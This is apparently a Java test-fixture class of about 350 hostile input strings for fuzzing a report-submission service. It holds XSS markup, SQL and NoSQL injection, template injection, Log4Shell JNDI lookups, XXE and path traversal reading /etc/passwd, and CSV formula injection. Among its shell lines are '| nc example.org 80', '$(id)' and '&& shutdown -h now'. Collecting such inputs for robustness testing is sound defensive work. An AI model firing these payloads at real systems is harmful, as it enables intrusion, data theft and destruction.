package org.redress.submitreport;

import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** About 350 texts that break programs. None of them is blank; all are whole characters. */
final class HostileTexts {

  private static final int[] INVISIBLE = {
      0x00AD, 0x034F, 0x061C, 0x115F, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A,
      0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2063, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x206F, 0x2800,
      0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFC, 0xFFFD, 0x1D173, 0xE0001, 0xE0041, 0xE007F, 0xE0100};

  private static final int[] NO_CHARACTERS = {
      0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0x2FFFE, 0x8FFFF, 0xFFFFE, 0x10FFFE, 0x10FFFF, 0xE000, 0xF8FF,
      0x10FFFD};

  private static final String MARKUP = """
      <script>alert(1)</script>
      <ScRiPt src=//example.org/x.js></sCrIpT>
      <scr<script>ipt>alert(1)</scr</script>ipt>
      "><script>alert(1)</script>
      '><img src=x onerror=alert(1)>
      <img src=x onerror="alert(1)"
      <svg/onload=alert(1)>
      <svg><script>alert&#40;1&#41;</script>
      <svg><animate onbegin=alert(1) attributeName=x dur=1s>
      </textarea><svg/onload=alert(1)>
      </title><script>alert(1)</script>
      </script><script>alert(1)</script>
      --><script>alert(1)</script><!--
      <!--<img src="--><img src=x onerror=alert(1)//">
      ]]><script>alert(1)</script>
      <![CDATA[<script>alert(1)</script>]]>
      " onmouseover="alert(1)
      ' onfocus='alert(1)' autofocus='
      " autofocus onfocus=alert(1) x="
      ` onmouseover=alert(1)
      " style="background:url(javascript:alert(1))
      <a href="javascript:alert(1)">x</a>
      <a href=" &#14; javascript:alert(1)">x</a>
      <a href="data:text/html,<script>alert(1)</script>">x</a>
      <iframe src="javascript:alert(1)"></iframe>
      <iframe srcdoc="<script>alert(1)</script>">
      <object data="javascript:alert(1)">
      <embed src="javascript:alert(1)">
      <base href="https://example.org/">
      <meta http-equiv="refresh" content="0;url=https://example.org/">
      <link rel=stylesheet href=//example.org/x.css>
      <style>@import'//example.org/x.css';</style>
      <form action=https://example.org/><input name=token>
      <button formaction=javascript:alert(1)>x
      <input type=hidden name=token value=stolen>
      <details open ontoggle=alert(1)>
      <video><source onerror=alert(1)>
      <body onload=alert(1)>
      <math><mtext></p><img src=x onerror=alert(1)>
      <template><script>alert(1)</script></template>
      <noscript><p title="</noscript><img src=x onerror=alert(1)>">
      <x onclick=alert(1)>x
      <b>bold</b><br><plaintext>
      <marquee onstart=alert(1)>
      <%00script>alert(1)</script>
      &lt;script&gt;alert(1)&lt;/script&gt;
      &#60;script&#62;alert(1)&#60;/script&#62;
      &amp;lt;script&amp;gt;
      &#x3c;img src=x onerror=alert(1)&#x3e;
      &colon;&Tab;&NewLine;&nbsp;&#0;&#xD800;&#x110000;&bogus;
      \\u003cscript\\u003ealert(1)\\u003c/script\\u003e
      \\x3cscript\\x3ealert(1)
      %3Cscript%3Ealert(1)%3C/script%3E
      +ADw-script+AD4-alert(1)+ADw-/script+AD4-
      <
      >
      "
      '
      `
      &
      <!
      <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>""";

  private static final String COMMANDS = """
      '; DROP TABLE reports; --
      ' OR '1'='1
      ' OR 1=1 --
      " OR ""="
      1; SELECT pg_sleep(10)
      1 UNION SELECT NULL,NULL--
      admin'/*
      ') OR ('a'='a
      {"$gt":""}
      {"$ne":null}
      {"$where":"sleep(1000)"}
      [$ne]=1
      '; return true; var x='
      attribute_not_exists(pk) OR #pk = :pk
      CASE#7K2M9QXW4T
      STATS#2026
      {"S":"CASE#"}
      :one
      #c0
      *)(uid=*))(|(uid=*
      ' or count(/*)=1 or 'a'='b
      ${jndi:ldap://example.org/a}
      ${${lower:j}ndi:${lower:l}dap://example.org/a}
      ${7*7}
      #{7*7}
      {{7*7}}
      {{constructor.constructor('alert(1)')()}}
      <%= 7*7 %>
      ${T(java.lang.Runtime).getRuntime().exec('id')}
      @template.layout(x)
      @if(true)x@endif
      !{var x = 1;}
      $unsafe{x}
      {organisation}
      {day} {0} {}
      $1 \\1 $0 \\
      %s%s%s%n%x
      %1$1000000s
      `id`
      $(id)
      ; cat /etc/passwd
      | nc example.org 80
      && shutdown -h now
      () { :;}; echo x
      ../../../../etc/passwd
      ..\\..\\..\\windows\\win.ini
      ....//....//etc/passwd
      /etc/passwd%00.png
      file:///etc/passwd
      \\\\example.org\\share
      C:\\con\\con
      CON
      php://filter/convert.base64-encode/resource=index
      =1+1
      =HYPERLINK("https://example.org/","x")
      @SUM(1+1)*cmd|' /C calc'!A0
      +1+1
      -1+1
      rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
      O:8:"stdClass":0:{}
      !!javax.script.ScriptEngineManager []
      __proto__
      constructor
      hasOwnProperty
      toString""";

  private static final String VALUES = """
      null
      undefined
      nil
      None
      true
      false
      on
      yes
      NaN
      Infinity
      -Infinity
      0
      -0
      00
      -1
      +1
      1e400
      -1e-400
      0x10
      0b1
      1_000
      1,000.00
      2147483648
      -9223372036854775809
      99999999999999999999999999
      0.1e1
      .5
      5.
      []
      {}
      [[[[[[
      {"a":1}
      {"a":
      "a"
      1/0
      0/0
      2026-02-30
      9999-99-99
      +999999999-12-31
      -0001-01-01
      2026-11-20T10:00:00Z
      24:00
      \\
      \\\\
      \\"
      \\u0000
      \\n
      %
      %%
      %2
      %zz
      %00
      %0d%0aSet-Cookie: a=b
      %c0%af
      %ed%a0%80
      %F4%90%80%80
      +
      &a=b
      a=b&c=d
      ;
      #
      ?
      :
      @
      ,
      .
      ..
      ~
      javascript:alert(1)
      JaVaScRiPt:alert(1)
      data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
      vbscript:msgbox(1)
      //example.org
      https://example.org/
      https://a:b@example.org:99999/?x#y
      http://[::1]:80/
      http://127.0.0.1.example.org/
      https://xn--80ak6aa92e.example.org/
      mailto:a@example.org?bcc=b@example.org""";

  private static final String SCRIPTS = """
      \u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u0645\u0631\u062D\u0628\u0627
      \u05E9\u05DC\u05D5\u05DD abc \u05E2\u05D5\u05DC\u05DD
      \u202Eevil\u202C \u2066x\u2069 \u2067y
      Z\u0351\u0346\u0325a\u0317\u0302l\u033F\u0336g\u0337o\u0338
      e\u0301 \u00E9 \u1E9B\u0323 \u212B \u00C5
      \uFB03 \u01C5 \u0149 \u1E9E \u0130 \u0131 \u00DF
      \uFDFA \u2A74 \uFDFB
      \uD835\uDD8D\uD835\uDD86\uD835\uDD99\uD835\uDD8A
      \uFF1Cscript\uFF1Ealert\uFF081\uFF09
      \u02BA\u02B9\u2039script\u203A
      \uD83D\uDE20
      \uD83D\uDC69\u200D\uD83D\uDCBB
      \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC73\uDB40\uDC63\uDB40\uDC74\uDB40\uDC7F
      \uD83C\uDDEC\uD83C\uDDE7\uD83C\uDDEC
      1\uFE0F\u20E3 \uD83D\uDC4D\uD83C\uDFFE
      \u0915\u094D\u0937\u093F \u0BA8\u0BBF \u0E33\u0E49
      \uAC00\u1100\u1161\u11A8 \u1112\u1161\u11AB
      \u6F22\u5B57 \uD840\uDC00\uD869\uDED6
      \u0410\u0430 \u0391\u03B1 \u0561 \u10D0
      \u2603\uFE0E \u2603\uFE0F
      \uA9C5\uA9C5\uA9C5 \uD808\uDC00
      \u0300\u0301\u0302
      \u200D
      \uFEFFabc\uFEFF
      D\u00E8 thachair? \u00C0\u00C8\u00CC\u00D2\u00D9""";

  private static final List<String> LINES = List.of(
      "a\r\nb", "a\n\n\nb", "a\rb", "\r\nSet-Cookie: a=b", "x\r\n\r\n<script>alert(1)</script>", "a\n\rb", "x\n", "\nx",
      "To: a@example.org\nBcc: b@example.org\n\nx", "a\tb", " padded ", "\u00A0x\u00A0", "\u3000x\u3000", "\u2003x",
      "a\u0085b", "a\u000B\fb");

  private static final List<String> LONG = List.of(
      "a".repeat(5000), "\uD83D\uDE20".repeat(500), "z\u0300\u0301\u0302\u0303".repeat(200), "<".repeat(2000),
      "\"'&".repeat(1000), "\0".repeat(1000), " x".repeat(2000), "a\n".repeat(1000), "\u202E".repeat(500) + "x",
      "(".repeat(3000), "a".repeat(200) + ".example.org", "https://example.org/" + "%2e".repeat(50));

  private HostileTexts() {}

  static Stream<String> all() {
    return Stream.of(
        IntStream.concat(IntStream.range(0, 0x20), IntStream.range(0x7F, 0xA0)).mapToObj(HostileTexts::between),
        IntStream.of(INVISIBLE).mapToObj(HostileTexts::between),
        IntStream.of(NO_CHARACTERS).mapToObj(HostileTexts::between),
        MARKUP.lines(), COMMANDS.lines(), VALUES.lines(), SCRIPTS.lines(), LINES.stream(), LONG.stream())
        .flatMap(texts -> texts);
  }

  private static String between(int character) {
    return "a" + Character.toString(character) + "b";
  }
}
